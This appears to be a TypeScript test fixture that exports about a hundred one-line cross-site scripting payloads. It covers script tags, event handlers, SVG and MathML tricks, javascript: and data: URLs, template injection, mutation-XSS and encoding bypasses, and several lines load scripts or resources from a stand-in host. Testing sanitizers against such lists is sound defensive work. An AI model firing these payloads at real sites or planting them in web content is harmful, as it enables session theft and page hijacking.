/**
 * A hundred texts that ran as a script somewhere, once they were written into a page as something else than text. Each sets
 * `window.pwned`, opens a dialog or asks a foreign host. One line each, so that they fit into names, too.
 */
const RUN = 'window.pwned=1'
const HOST = 'xss.invalid'

const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src=//${HOST}/a.js></script>`,
  `<script type=module>${RUN}</script>`,
  `<script>${RUN}//`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="https://${HOST}/"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<object data="https://${HOST}/a.swf"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<base href="https://${HOST}/">`,
  `<link rel=stylesheet href="https://${HOST}/a.css">`,
  `<link rel=modulepreload href="https://${HOST}/a.js">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<meta http-equiv=refresh content="0;url=https://${HOST}/">`,
  `<form action="https://${HOST}/"><input name=a autofocus onfocus=${RUN}></form>`,
  `<button form=f formaction="javascript:${RUN}">x</button>`,
]

const HANDLERS = [
  `<img src=x onerror=${RUN}>`,
  `<img src=x:x onerror="${RUN}">`,
  `<img/src=x/onerror=${RUN}>`,
  `<IMG SRC=x ONERROR=${RUN}>`,
  `<img src="https://${HOST}/a.png">`,
  `<img srcset="https://${HOST}/a.png 1x">`,
  `<picture><source srcset="https://${HOST}/a.png"><img></picture>`,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `" onmouseover="${RUN}" autofocus onfocus="${RUN}" x="`,
  `' onmouseover='${RUN}' autofocus onfocus='${RUN}' x='`,
  `\` onmouseover=${RUN} `,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<video><source onerror=${RUN}></video>`,
  `<video src=x onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<div onpointerenter=${RUN} style="position:fixed;inset:0">x</div>`,
  `<div style="animation:x 1s" onanimationstart=${RUN}>x</div>`,
  `<x contenteditable autofocus onfocus=${RUN}>x</x>`,
  `<dialog open onclose=${RUN}><form method=dialog></dialog>`,
]

const DRAWINGS = [
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:,${RUN}"/></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set onbegin=${RUN} attributeName=x></svg>`,
  `<svg><a href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><use href="https://${HOST}/a.svg#x"></svg>`,
  `<svg><image href="https://${HOST}/a.png"></svg>`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<math href="javascript:${RUN}">x</math>`,
]

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `javascript:alert(1)`,
  `javascript://%0a${RUN}`,
  ` javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `java&Tab;script:${RUN}`,
  `&#106;avascript:${RUN}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==`,
  `//${HOST}/a`,
  `https://${HOST}/a?<script>`,
  `/\\${HOST}/a`,
  `blob:https://${HOST}/a`,
]

const MARKUP_LANGUAGES = [
  `[x](javascript:${RUN})`,
  `![x](https://${HOST}/a.png)`,
  `![x](x"onerror="${RUN})`,
  `<javascript:${RUN}>`,
  `{{constructor.constructor("${RUN}")()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
]

/** They change when a parser writes and reads them once more. */
const MUTATIONS = [
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<img src=x id=dmVy name=getElementById><form id=x><input name=attributes>`,
]

const LETTERS = [
  `\u202e<script>${RUN}</script>\u202c`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `\u2028<img src=x onerror=${RUN}>\u2029`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
]

const STYLES = [
  `<style>@import "https://${HOST}/a.css";</style>`,
  `};body{background:url(https://${HOST}/a.png)}`,
  `<p style="background:url(https://${HOST}/a.png)">x</p>`,
  `red;background:url(javascript:${RUN})`,
]

export const PAYLOADS: readonly string[] = [
  ...ELEMENTS,
  ...HANDLERS,
  ...DRAWINGS,
  ...ADDRESSES,
  ...MARKUP_LANGUAGES,
  ...MUTATIONS,
  ...LETTERS,
  ...STYLES,
]

/** Those that a name may be: it has one line, and no space around it. */
export const NAMES: readonly string[] = PAYLOADS.filter((each) => !/[\u2028\u2029]/.test(each) && each === each.trim())
